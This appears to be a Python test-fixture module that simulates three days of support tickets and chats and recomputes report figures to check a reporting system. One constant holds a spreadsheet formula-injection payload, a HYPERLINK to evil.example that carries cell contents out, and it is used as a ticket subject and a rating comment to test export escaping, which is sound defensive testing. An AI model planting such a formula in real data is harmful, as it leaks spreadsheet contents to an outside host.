"""Three days of a small desk, built through the real use cases with the manual clock, for
the reports' tests; and a brute-force reading of the stored rows to check figures against.

Monday 2026-03-02 (UTC):
  A  09:00 web ticket by the customer (Acme), category technical_question, severity 2,
     assigned to Ann; answered 09:30, proposed to close 10:00, reopened by the customer
     10:30, answered 11:00, proposed 11:30 and rated Good ("fast"), closed 12:00.
  B  13:00 live chat by the customer; Ann answers 13:02; the customer ends it 13:10 and
     rates it Bad with a formula as comment.
Tuesday 2026-03-03:
  C  09:00 web ticket by the colleague, subject a HYPERLINK formula, severity 1,
     transferred to the group second_level (led by Bob).
  D  10:00 phone ticket an agent opens for the stranger (Other, a direct customer).
  E  11:00 web ticket by Beta's customer (Beta: a customer of the reseller Partner),
     assigned to Bob.
  F  12:00 live chat by Beta's customer, unanswered.
The sweeper runs along (rollup, SLA breaches and escalations, conversions).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

from sqlalchemy import select, update

from chat import directory
from chat.auth import principal_of
from chat.authz import Principal
from chat.clock import ManualClock
from chat.models import Conversation, OrgKind, Role
from chat.reports.filters import ReportQuery, parse_query
from chat.reports.selection import CHANNELS
from chat.services import Services
from escalation import tickets
from escalation.closing import close_conversation, rate_ticket, rating_of
from escalation.intake import TicketDraft, open_ticket
from escalation.models import ReportHour, SupportGroup, Ticket, TicketChannel
from escalation.policy_table import PlanTier
from tests.escalation.world import Desk, chat, make_desk, say

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class World:
    desk: Desk
    clock: ManualClock
    ids: dict[str, int]  # ticket letter -> ticket id
    reseller: Principal  # admin of Partner
    other_reseller: Principal  # admin of Rival, whose customer is Gamma
    beta_customer: Principal
    beta_id: int
    gamma_id: int

    @property
    def svc(self) -> Services:
        return self.desk.svc

    async def at(self, when: datetime) -> None:
        """Advance to ``when``, running the sweeper every three hours on the way and at the end
        (the worker runs it every few seconds; what it does does not depend on how often)."""
        while self.clock.now() < when:
            step = min(timedelta(hours=3), when - self.clock.now())
            self.clock.advance(step)
            await self.desk.sweeper.run_once()


async def build(svc: Services, clock: ManualClock) -> World:
    assert clock.now() == T0
    desk = await make_desk(svc)

    async def user(email: str, role: Role, org: int) -> Principal:
        return principal_of(await directory.create_user(svc, None, email=email, role=role, organization=org,
                                                        name=email.split("@")[0].title()))

    partner = (await directory.create_organization(svc, None, name="Partner", kind=OrgKind.RESELLER)).organization
    beta = (await directory.create_organization(svc, None, name="Beta", kind=OrgKind.CUSTOMER, parent=partner.id,
                                                plan_tier=PlanTier.PREMIUM)).organization
    rival = (await directory.create_organization(svc, None, name="Rival", kind=OrgKind.RESELLER)).organization
    gamma = (await directory.create_organization(svc, None, name="Gamma", kind=OrgKind.CUSTOMER,
                                                 parent=rival.id)).organization
    world = World(desk, clock, {}, await user("pat@partner.example", Role.RESELLER_ADMIN, partner.id),
                  await user("rob@rival.example", Role.RESELLER_ADMIN, rival.id),
                  await user("bea@beta.example", Role.CUSTOMER, beta.id), beta.id, gamma.id)
    async with svc.sessions.begin() as db:
        await db.execute(update(SupportGroup).where(SupportGroup.key == "second_level")
                         .values(lead_id=desk.agent2.user_id))
    ids = world.ids

    a = await open_ticket(svc, desk.customer, TicketDraft(subject="Printer A", description="It jams",
                                                          category="technical_question", severity=2))
    ids["A"] = a["id"]
    await tickets.assign_ticket(svc, desk.admin, ids["A"], desk.agent.user_id)
    await world.at(T0 + timedelta(minutes=30))
    await say(desk, desk.agent, ids["A"], "Try turning it off and on")
    await world.at(T0 + timedelta(hours=1))
    await tickets.change_status(svc, desk.agent, ids["A"], "propose_close")
    await world.at(T0 + timedelta(hours=1, minutes=30))
    await tickets.change_status(svc, desk.customer, ids["A"], "reopen")
    await world.at(T0 + timedelta(hours=2))
    await say(desk, desk.agent, ids["A"], "Then replace the roller")
    await world.at(T0 + timedelta(hours=2, minutes=30))
    await tickets.change_status(svc, desk.agent, ids["A"], "propose_close")
    await rate_ticket(svc, desk.customer, ids["A"], "good", reason="fast")
    await world.at(T0 + timedelta(hours=3))
    await tickets.change_status(svc, desk.agent, ids["A"], "close")

    await world.at(T0 + timedelta(hours=4))
    ids["B"] = await chat(desk, subject="Quick question", body="Are you there?")
    await world.at(T0 + timedelta(hours=4, minutes=2))
    await say(desk, desk.agent, ids["B"], "Yes!")
    await world.at(T0 + timedelta(hours=4, minutes=10))
    await close_conversation(svc, desk.customer, ids["B"], rating=rating_of("bad", comment=EVIL))

    day2 = T0 + timedelta(days=1)
    await world.at(day2)
    c = await open_ticket(svc, desk.colleague, TicketDraft(subject=EVIL, description="Urgent", severity=1))
    ids["C"] = c["id"]
    await tickets.transfer_ticket(svc, desk.admin, ids["C"], group="second_level")
    await world.at(day2 + timedelta(hours=1))
    d = await open_ticket(svc, desk.agent, TicketDraft(subject="Phoned in", description="Caller says hi",
                                                       channel=TicketChannel.PHONE,
                                                       requester_id=desk.stranger.user_id))
    ids["D"] = d["id"]
    await world.at(day2 + timedelta(hours=2))
    e = await open_ticket(svc, world.beta_customer, TicketDraft(subject="Beta issue", description="Help"))
    ids["E"] = e["id"]
    await tickets.assign_ticket(svc, desk.admin, ids["E"], desk.agent2.user_id)
    await world.at(day2 + timedelta(hours=3))
    ids["F"] = await chat(desk, world.beta_customer, subject="Beta chat", body="Hello?")
    await world.at(T0 + timedelta(days=2, hours=12))
    return world


# -- brute force: the figures recomputed from the stored rows, one ticket at a time -------


@dataclass(frozen=True)
class Row:
    t: Ticket
    conv: Conversation


async def rows(svc: Services) -> list[Row]:
    async with svc.reads() as db:
        return [Row(t, c) for t, c in (await db.execute(
            select(Ticket, Conversation).join(Conversation, Conversation.id == Ticket.conversation_id))).all()]


async def hours(svc: Services) -> list[tuple[int, datetime, int]]:
    async with svc.reads() as db:
        return [tuple(r) for r in (await db.execute(  # type: ignore[misc]
            select(ReportHour.conversation_id, ReportHour.hour, ReportHour.messages))).all()]


def within(at: datetime | None, start: datetime, end: datetime) -> bool:
    return at is not None and start <= at < end


def nearest_rank(values: list[int], p: float) -> int | None:
    """The brute-force percentile: sort, take rank ceil(p·n)."""
    if not values:
        return None
    ordered = sorted(values)
    rank = -(-len(ordered) * int(p * 10) // 10)  # ceil(p·n) in integers, p in tenths
    return ordered[rank - 1]


def table(document: dict[str, Any], table_id: str) -> dict[str, Any]:
    return next(t for t in document["tables"] if t["id"] == table_id)


def matches(row: Row, query: ReportQuery) -> bool:
    """The query's filters, one ticket at a time (what chat.reports.selection.base does in SQL)."""
    t, conv = row.t, row.conv

    def ok(values: tuple[Any, ...], value: Any) -> bool:
        return not values or value in values

    return (
        t.spam_at is None
        and ok(query.sites, conv.site_id) and ok(query.companies, conv.organization_id)
        and ok(query.groups, t.group_key) and ok(query.agents, t.assignee_id)
        and ok(query.categories, t.category) and ok(query.severities, t.severity)
        and ok(query.channels, t.channel.value)
    )


def day_of(at: datetime | None, query: ReportQuery) -> date | None:
    """The local day of an instant, by zoneinfo; None outside the range or for None."""
    if at is None or not query.start <= at < query.end:
        return None
    return at.astimezone(query.tz).date()


def query_of(svc: Services, pairs: list[tuple[str, str]]) -> ReportQuery:
    return parse_query(pairs, now=svc.clock.now(), channels=CHANNELS)[0]
